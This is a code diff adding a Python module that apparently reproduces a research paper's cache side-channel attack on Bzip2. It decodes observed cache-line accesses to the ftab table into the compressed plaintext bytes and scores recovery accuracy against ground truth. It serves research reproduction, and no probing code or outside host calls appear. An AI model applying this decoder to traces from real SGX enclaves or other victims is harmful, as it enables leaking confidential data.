@@ -1,0 +1,148 @@
+"""Plaintext recovery from the Bzip2 ``ftab[j]++`` trace (Section IV-D).
+
+At loop iteration ``i`` the victim touches ``ftab + 4*j`` with
+``j = (block[i] << 8) | block[i+1 mod n]``.  One cache-line observation
+confines ``4*j + (ftab % 64)`` to a 64-byte window, i.e. ``j`` to 16
+consecutive values:
+
+* ``block[i]`` (= ``j >> 8``) is determined up to the paper's off-by-one
+  ambiguity (the window may straddle a multiple of 256 because ftab is
+  *not* line-aligned);
+* ``block[i+1]``'s top bits are confined too, which is the redundancy
+  the attacker uses "as a form of error correction" (Section V-D): each
+  byte is the high half of one observation and the low half of another,
+  and constraint propagation between neighbours resolves the ambiguity.
+
+The same decoder serves the noise-free survey (one line per iteration)
+and the end-to-end SGX attack (a *set* of candidate lines per iteration,
+possibly empty on missed probes or polluted by false positives).
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+from typing import Iterable, Optional, Sequence
+
+Observation = Optional[Sequence[int]]  # candidate cache lines, or None
+
+
+@dataclass
+class RecoveredBlock:
+    """Result of decoding one block's ftab trace."""
+
+    candidates: list[set[int]]  # per byte position, surviving values
+    values: list[int]  # point estimate (first candidate, or 0)
+
+    def byte_accuracy(self, truth: bytes) -> float:
+        if not truth:
+            return 1.0
+        good = sum(1 for v, t in zip(self.values, truth) if v == t)
+        return good / len(truth)
+
+    def bit_accuracy(self, truth: bytes) -> float:
+        """Fraction of correct bits — the paper's Section V-E metric."""
+        if not truth:
+            return 1.0
+        good = 0
+        for v, t in zip(self.values, truth):
+            good += 8 - bin(v ^ t).count("1")
+        return good / (8 * len(truth))
+
+    def ambiguous_positions(self) -> list[int]:
+        return [i for i, c in enumerate(self.candidates) if len(c) != 1]
+
+
+def _pairs_for_line(line: int, ftab_base: int) -> set[tuple[int, int]]:
+    """All (hi, lo) byte pairs whose ftab access falls in ``line``."""
+    lo_addr = line << 6
+    out: set[tuple[int, int]] = set()
+    # 4j + base in [lo_addr, lo_addr+63]  ->  16 consecutive j values.
+    j_min = -(-(lo_addr - ftab_base) // 4)
+    for j in range(j_min, j_min + 16):
+        if 0 <= j <= 0xFFFF and lo_addr <= ftab_base + 4 * j < lo_addr + 64:
+            out.add((j >> 8, j & 0xFF))
+    return out
+
+
+def recover_bzip2_block(
+    observations: Sequence[Observation],
+    ftab_base: int,
+    n: int,
+    max_rounds: int = 4,
+) -> RecoveredBlock:
+    """Decode the block from per-iteration cache-line observations.
+
+    Args:
+        observations: ``observations[i]`` is the candidate cache lines
+            seen when the loop processed index ``i`` (the access for the
+            pair ``block[i], block[i+1 mod n]``); ``None`` or empty means
+            the probe for that iteration was lost.
+        ftab_base: base address of ftab (known in the threat model).
+        n: block length.
+        max_rounds: constraint-propagation sweeps.
+
+    Returns:
+        a :class:`RecoveredBlock` with per-position candidate sets after
+        propagation and a point estimate.
+    """
+    all_bytes = set(range(256))
+    candidates: list[set[int]] = [set(all_bytes) for _ in range(n)]
+
+    # Pair constraints: observation i links positions i and (i+1) % n.
+    pair_sets: list[Optional[set[tuple[int, int]]]] = [None] * n
+    for i in range(n):
+        obs = observations[i] if i < len(observations) else None
+        if not obs:
+            continue
+        pairs: set[tuple[int, int]] = set()
+        for line in obs:
+            pairs |= _pairs_for_line(line, ftab_base)
+        if pairs:
+            pair_sets[i] = pairs
+
+    # Initial narrowing from each observation in isolation.
+    for i, pairs in enumerate(pair_sets):
+        if pairs is None:
+            continue
+        candidates[i] &= {hi for hi, _ in pairs}
+        candidates[(i + 1) % n] &= {lo for _, lo in pairs}
+
+    # Propagate joint pair constraints until fixpoint (error correction
+    # via the consecutive-iteration redundancy).
+    for _ in range(max_rounds):
+        changed = False
+        for i, pairs in enumerate(pair_sets):
+            if pairs is None:
+                continue
+            nxt = (i + 1) % n
+            ok_pairs = {
+                (hi, lo)
+                for hi, lo in pairs
+                if hi in candidates[i] and lo in candidates[nxt]
+            }
+            if not ok_pairs:
+                continue  # contradictory (noisy) observation: skip
+            new_hi = {hi for hi, _ in ok_pairs}
+            new_lo = {lo for _, lo in ok_pairs}
+            if new_hi != candidates[i]:
+                candidates[i] = new_hi
+                changed = True
+            if new_lo != candidates[nxt]:
+                candidates[nxt] = new_lo
+                changed = True
+        if not changed:
+            break
+
+    values = [min(c) if c else 0 for c in candidates]
+    return RecoveredBlock(candidates=candidates, values=values)
+
+
+def observations_from_lines(lines: Iterable[int], n: int) -> list[Observation]:
+    """Adapt a noise-free trace (loop order: i = n-1 .. 0) into the
+    per-index observation layout ``recover_bzip2_block`` expects."""
+    per_index: list[Observation] = [None] * n
+    for step, line in enumerate(lines):
+        i = n - 1 - step
+        if 0 <= i < n:
+            per_index[i] = [line]
+    return per_index
